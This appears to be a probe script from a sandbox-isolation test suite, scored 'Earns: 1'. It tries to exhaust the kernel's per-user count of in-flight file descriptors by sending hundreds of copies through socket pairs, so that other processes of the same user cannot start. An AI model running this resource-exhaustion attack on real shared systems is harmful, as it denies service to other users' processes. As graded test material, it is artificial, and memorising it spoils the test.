"""Sends itself so many descriptors that its user may have none more on their way.

The kernel counts them for the user, so that a neighbour of the same user could start no app.

Earns: 1
"""

import socket

from flask import Flask

print("TRIED", flush=True)
held, sent = [], 0
try:
    for _ in range(30):
        one, other = socket.socketpair()
        held += [one, other]
        socket.send_fds(one, [b"."], [0] * 100)
        sent += 100
except OSError:
    pass
if sent:
    print("ESCAPED:", sent, "descriptors are on their way", flush=True)
app = Flask(__name__)
